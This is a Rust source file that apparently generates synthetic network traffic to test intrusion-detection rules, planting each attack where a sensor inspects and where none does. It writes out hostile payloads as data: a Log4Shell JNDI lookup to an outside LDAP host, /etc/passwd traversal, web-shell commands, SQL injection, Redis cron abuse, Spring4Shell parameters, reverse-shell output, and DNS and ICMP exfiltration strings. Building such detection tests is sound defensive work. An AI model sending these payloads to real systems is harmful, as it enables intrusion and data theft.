//! The attacks, each announced to the manifest with the rule that catches it. Most are planted
//! twice: where a resource inspects, and where none does.

use std::io;

use super::background::datagram;
use super::cluster::*;
use super::scene::Scene;
use crate::payload::{dns, http, tls};
use crate::{Delivery, Envelope, Order, Path, Side, Sink, Track};
use crate::{frame, payload::http::Request};

/// The rules of `deploy/examples/rules/example.rules` that something planted raises.
mod sid {
    pub(super) const JNDI: u32 = 9_000_001;
    pub(super) const TRAVERSAL: u32 = 9_000_002;
    pub(super) const PASSWD_LEAK: u32 = 9_000_003;
    pub(super) const WEBSHELL: u32 = 9_000_004;
    pub(super) const BAD_DOMAIN: u32 = 9_000_005;
    pub(super) const DNS_TUNNEL: u32 = 9_000_006;
    pub(super) const C2_SNI: u32 = 9_000_007;
    pub(super) const REVERSE_SHELL: u32 = 9_000_008;
    pub(super) const SQL_INJECTION: u32 = 9_000_009;
    pub(super) const REDIS_ABUSE: u32 = 9_000_010;
    pub(super) const CLASS_LOADER: u32 = 9_000_011;
    pub(super) const SCANNER: u32 = 9_000_012;
    pub(super) const COIN_MINER: u32 = 9_000_013;
    pub(super) const BEACON: u32 = 9_000_014;
    // 9000015 remembers a log-in and raises nothing by itself.
    pub(super) const ROOT_LOGIN: u32 = 9_000_016;
    pub(super) const ICMP_TUNNEL: u32 = 9_000_017;
}

/// Plays all of them.
pub(super) fn play(scene: &mut Scene) -> io::Result<()> {
    jndi(scene)?;
    traversal(scene)?;
    webshell(scene)?;
    bad_domain(scene)?;
    dns_tunnel(scene)?;
    command_and_control(scene)?;
    reverse_shell(scene)?;
    sql_injection(scene)?;
    redis_abuse(scene)?;
    class_loader(scene)?;
    scanner(scene)?;
    coin_miner(scene)?;
    beacon(scene)?;
    root_login(scene)?;
    icmp_tunnel(scene)
}

/// An announced HTTP request, with a short answer.
fn request(
    scene: &mut Scene,
    path: Path,
    request: Request<'_>,
    delivery: Delivery,
    alert: (u32, &'static str),
) -> io::Result<()> {
    let (mut track, mut session) = (scene.track(), scene.session(path));
    scene.expect(alert.0, alert.1, "TCP", &path, Side::Client);
    session.open(&mut track)?;
    session.deliver(Side::Client, &request.to_bytes(), delivery, &mut track)?;
    track.pause(1_500);
    let answer = http::response("404 Not Found", "text/plain", b"nothing here\n");
    session.send(Side::Server, &answer, &mut track)?;
    session.close(Side::Client, &mut track)?;
    scene.add(&path, track);
    Ok(())
}

/// Log4Shell: a lookup in a header.
fn jndi(scene: &mut Scene) -> io::Result<()> {
    let fields = [("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}")];
    let lookup = Request::get("shop.example", "/").fields(&fields);
    let usual = Delivery::default();

    let path = scene.inwards(outside::ATTACKER, &FRONTEND_1, 8080);
    request(scene, path, lookup, usual, (sid::JNDI, "JNDI lookup in a header"))?;
    let path = Path::new(SANDBOX.at6(scene.port()), WEB.at6(8080)).within(SANDBOX.vxlan(&WEB));
    request(scene, path, lookup, usual, (sid::JNDI, "the same over IPv6 within VXLAN"))?;
    let path = scene.inwards(outside::ATTACKER, &SANDBOX, 8080);
    request(scene, path, lookup, usual, (sid::JNDI, "the same to a pod that nothing inspects"))
}

/// Directory traversal: in segments of seven bytes, answered with what was asked for; within a
/// VLAN; and to the pod that has a finished job's address.
fn traversal(scene: &mut Scene) -> io::Result<()> {
    let get = Request::get("shop.example", "/static/../../../../etc/passwd");
    let path = scene.inwards(outside::ATTACKER, &FRONTEND_2, 8080);
    let (mut track, mut session) = (scene.track(), scene.session(path));
    scene.expect(sid::TRAVERSAL, "traversal in segments of 7 bytes", "TCP", &path, Side::Client);
    scene.expect(sid::PASSWD_LEAK, "the file in its answer", "TCP", &path, Side::Server);
    session.open(&mut track)?;
    let tiny = Delivery { segment: 7, ..Delivery::default() };
    session.deliver(Side::Client, &get.to_bytes(), tiny, &mut track)?;
    let file =
        b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n";
    let answer = http::response("200 OK", "text/plain", file);
    session.send(Side::Server, &answer, &mut track)?;
    session.close(Side::Client, &mut track)?;
    scene.add(&path, track);

    let usual = Delivery::default();
    let path = scene.inwards(outside::ATTACKER, &WEB, 8080).within(Envelope::Vlan(100));
    request(scene, path, get, usual, (sid::TRAVERSAL, "traversal in a VLAN"))?;
    let path = scene.inwards(outside::ATTACKER, &GRAFANA, 3000);
    let what = "traversal to a pod that has a finished job's address";
    request(scene, path, get, usual, (sid::TRAVERSAL, what))
}

/// Orders to a web shell.
fn webshell(scene: &mut Scene) -> io::Result<()> {
    let post = Request::post("shop.example", "/uploads/img/cache.php", b"cmd=id%3Buname+-a");
    let usual = Delivery::default();
    let path = scene.inwards(outside::ATTACKER, &FRONTEND_1, 8080);
    request(scene, path, post, usual, (sid::WEBSHELL, "orders to a web shell"))?;
    let path = scene.between(&SANDBOX, &CART, 9090);
    request(scene, path, post, usual, (sid::WEBSHELL, "the same where nothing inspects"))
}

/// Queries for a bad domain: of a job, and of the cluster's DNS that passes it on.
fn bad_domain(scene: &mut Scene) -> io::Result<()> {
    let name = "Update.Known-Bad.example";
    let asked = scene.between(&IMPORT, &COREDNS, 53);
    let passed_on = scene.outwards(&COREDNS, outside::RESOLVER, 53);
    let paths = [(asked, "a job asks for a bad domain"), (passed_on, "DNS passes that on")];
    for (path, what) in paths {
        let id = scene.random.number() as u16;
        let mut track = scene.track();
        scene.expect(sid::BAD_DOMAIN, what, "UDP", &path, Side::Client);
        datagram(scene, &mut track, &path, Side::Client, &dns::query(id, name, dns::Kind::A))?;
        track.pause(900);
        let answer = dns::no_such_name(id, name, dns::Kind::A);
        datagram(scene, &mut track, &path, Side::Server, &answer)?;
        scene.add(&path, track);
    }
    Ok(())
}

/// Data in the labels of a query, orders in the answer.
fn dns_tunnel(scene: &mut Scene) -> io::Result<()> {
    for (pod, what) in [(&WEB, "data in a DNS query"), (&SANDBOX, "the same, uninspected")] {
        let data = scene.random.text(b"abcdefghijklmnopqrstuvwxyz234567", 110);
        let name = format!("{}.{}.t.tunnel.example", &data[..55], &data[55..]);
        let path = scene.outwards(pod, outside::RESOLVER, 53);
        let id = scene.random.number() as u16;
        let mut track = scene.track();
        scene.expect(sid::DNS_TUNNEL, what, "UDP", &path, Side::Client);
        datagram(scene, &mut track, &path, Side::Client, &dns::query(id, &name, dns::Kind::Txt))?;
        let answer = dns::text_answer(id, &name, "c2xlZXAgNjA=");
        datagram(scene, &mut track, &path, Side::Server, &answer)?;
        scene.add(&path, track);
    }
    Ok(())
}

/// TLS to a command-and-control server, once with the name cut in two.
fn command_and_control(scene: &mut Scene) -> io::Result<()> {
    let cases = [
        (&REPORT, Delivery::default(), "TLS to a command-and-control server"),
        (&POSTGRES, Delivery { segment: 100, ..Delivery::default() }, "the same in small segments"),
        (&SANDBOX, Delivery::default(), "the same where nothing inspects"),
    ];
    for (pod, delivery, what) in cases {
        let path = scene.outwards(pod, outside::DROP, 443);
        let (mut track, mut session) = (scene.track(), scene.session(path));
        scene.expect(sid::C2_SNI, what, "TCP", &path, Side::Client);
        let random = &mut scene.random;
        session.open(&mut track)?;
        let hello = tls::client_hello("cdn.c2.example", random);
        session.deliver(Side::Client, &hello, delivery, &mut track)?;
        session.send(Side::Server, &tls::server_hello(random), &mut track)?;
        session.send(Side::Client, &tls::client_finished(random), &mut track)?;
        session.send(Side::Client, &tls::encrypted(180, random), &mut track)?;
        session.send(Side::Server, &tls::encrypted(90, random), &mut track)?;
        session.close(Side::Client, &mut track)?;
        scene.add(&path, track);
    }
    Ok(())
}

/// A shell that calls home, cut within what it prints first.
fn reverse_shell(scene: &mut Scene) -> io::Result<()> {
    let cases = [(&WEB, "a reverse shell's banner"), (&SANDBOX, "the same, uninspected")];
    for (pod, what) in cases {
        let path = scene.outwards(pod, outside::DROP, 4444);
        let (mut track, mut session) = (scene.track(), scene.session(path));
        scene.expect(sid::REVERSE_SHELL, what, "TCP", &path, Side::Client);
        session.open(&mut track)?;
        session.send(Side::Server, b"id\n", &mut track)?;
        session.send(Side::Client, b"uid=0(ro", &mut track)?;
        session.send(Side::Client, b"ot) gid=0(root) groups=0(root)\n", &mut track)?;
        session.send(Side::Server, b"exit\n", &mut track)?;
        session.close(Side::Client, &mut track)?;
        scene.add(&path, track);
    }
    Ok(())
}

/// SQL in a query string, escaped, cut within the words that give it away.
fn sql_injection(scene: &mut Scene) -> io::Result<()> {
    let target = "/v1/items?id=1%20UnIoN%20AlL%20sElEcT%20password%20from%20users";
    let get = Request::get("cart.shop.svc.cluster.local", target);
    let cut = Delivery { segment: 34, ..Delivery::default() };
    let path = scene.between(&FRONTEND_1, &CART, 9090);
    request(scene, path, get, cut, (sid::SQL_INJECTION, "SQL cut in two, within VXLAN"))?;
    let path = scene.between(&GRAFANA, &CART, 9090);
    request(scene, path, get, cut, (sid::SQL_INJECTION, "the same where nothing inspects"))
}

/// Redis is told to write a job for cron; the segments arrive the last one first.
fn redis_abuse(scene: &mut Scene) -> io::Result<()> {
    let path = scene.between(&SANDBOX, &REDIS, 6379);
    let (mut track, mut session) = (scene.track(), scene.session(path));
    let what = "orders to Redis, the last segment first";
    scene.expect(sid::REDIS_ABUSE, what, "TCP", &path, Side::Client);
    session.open(&mut track)?;
    let order = b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n";
    let backwards = Delivery { segment: 16, order: Order::Reversed, repeated: false };
    session.deliver(Side::Client, order, backwards, &mut track)?;
    session.send(Side::Server, b"+OK\r\n", &mut track)?;
    session.close(Side::Client, &mut track)?;
    scene.add(&path, track);
    Ok(())
}

/// Spring4Shell in a form, between two nodes within VXLAN, swapped segments.
fn class_loader(scene: &mut Scene) -> io::Result<()> {
    let form = b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&\
        class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT";
    let post = Request::post("web.shop.svc.cluster.local", "/render/form", form);
    let swapped = Delivery { segment: 60, order: Order::Swapped, repeated: false };
    let path = scene.between(&FRONTEND_2, &WEB, 8080);
    request(scene, path, post, swapped, (sid::CLASS_LOADER, "class loader abuse within VXLAN"))
}

/// A scanner at work, within IP in IP.
fn scanner(scene: &mut Scene) -> io::Result<()> {
    let fields = [("User-Agent", "sqlmap/1.8 (https://sqlmap.example)")];
    for (pod, port, what) in [
        (&WEB, 8080, "a scanner within IP in IP"),
        (&GRAFANA, 3000, "the same where nothing inspects"),
    ] {
        let get = Request::get("10.244.1.1", "/items?id=1").fields(&fields);
        let path = Path::new(SANDBOX.at(scene.port()), pod.at(port)).within(SANDBOX.ipip(pod));
        request(scene, path, get, Delivery::default(), (sid::SCANNER, what))?;
    }
    Ok(())
}

/// A miner reports for work; every segment arrives twice.
fn coin_miner(scene: &mut Scene) -> io::Result<()> {
    for (pod, what) in
        [(&IMPORT, "a miner, segments repeated"), (&SANDBOX, "the same, uninspected")]
    {
        let path = scene.outwards(pod, outside::DROP, 3333);
        let (mut track, mut session) = (scene.track(), scene.session(path));
        scene.expect(sid::COIN_MINER, what, "TCP", &path, Side::Client);
        session.open(&mut track)?;
        let order = br#"{"id":1,"method":"mining.subscribe","params":["xm/6.21"]}"#;
        let repeated = Delivery { repeated: true, ..Delivery::default() };
        session.deliver(Side::Client, &[&order[..], b"\n"].concat(), repeated, &mut track)?;
        session.send(Side::Server, b"{\"id\":1,\"result\":true}\n", &mut track)?;
        session.close(Side::Client, &mut track)?;
        scene.add(&path, track);
    }
    Ok(())
}

/// A beacon in a datagram so large that it travels in fragments, the last one first.
fn beacon(scene: &mut Scene) -> io::Result<()> {
    for (pod, what) in [(&REPORT, "a beacon in fragments"), (&SANDBOX, "the same, uninspected")] {
        let path = scene.outwards(pod, outside::DROP, 9999);
        let mut track = scene.track();
        scene.expect(sid::BEACON, what, "UDP", &path, Side::Client);
        let message = beacon_message(scene);
        let id = scene.random.number() as u16;
        for part in frame::udp_fragments(&path, Side::Client, id, &message, 1_024).iter().rev() {
            track.put(part)?;
        }
        scene.add(&path, track);
    }
    Ok(())
}

/// What the beacon says; its end tells it from others.
pub(super) fn beacon_message(scene: &mut Scene) -> Vec<u8> {
    let filler = scene.random.text(b"0123456789abcdef", 2_400);
    format!("BEACON|{filler}|END-OF-BEACON").into_bytes()
}

/// A log-in as root at a console, which only counts once it is welcomed.
fn root_login(scene: &mut Scene) -> io::Result<()> {
    for (pod, what) in [(&POSTGRES, "a log-in as root, welcomed"), (&SANDBOX, "uninspected")] {
        let path = scene.between(&BACKUP, pod, 2323);
        scene.expect(sid::ROOT_LOGIN, what, "TCP", &path, Side::Server);
        let track = console(scene, path, b"login: root\n", b"Welcome, root\n")?;
        scene.add(&path, track);
    }
    // Neither another's welcome nor a refusal raises anything.
    for answer in [&b"Welcome, alice\n"[..], b"Access denied\n"] {
        let path = scene.between(&BACKUP, &POSTGRES, 2323);
        let order =
            if answer.starts_with(b"W") { &b"login: alice\n"[..] } else { b"login: root\n" };
        let track = console(scene, path, order, answer)?;
        scene.add(&path, track);
    }
    Ok(())
}

fn console(scene: &mut Scene, path: Path, order: &[u8], answer: &[u8]) -> io::Result<Track> {
    let (mut track, mut session) = (scene.track(), scene.session(path));
    session.open(&mut track)?;
    session.send(Side::Client, order, &mut track)?;
    session.send(Side::Server, answer, &mut track)?;
    session.send(Side::Client, b"logout\n", &mut track)?;
    session.close(Side::Client, &mut track)?;
    Ok(track)
}

/// Data in the padding of pings.
fn icmp_tunnel(scene: &mut Scene) -> io::Result<()> {
    for (pod, what) in [(&IMPORT, "data in a ping"), (&SANDBOX, "the same, uninspected")] {
        let mut path = scene.outwards(pod, outside::DROP, 0);
        path.client.set_port(0);
        let mut track = scene.track();
        scene.expect(sid::ICMP_TUNNEL, what, "ICMP", &path, Side::Client);
        let mut out = Vec::new();
        for from in [Side::Client, Side::Server] {
            let id = scene.random.number() as u16;
            frame::echo(&mut out, &path, from, id, 1, b"EXFIL|cGFzc3dvcmQ9aHVudGVyMg==|");
            track.put(&out)?;
        }
        scene.add(&path, track);
    }
    Ok(())
}
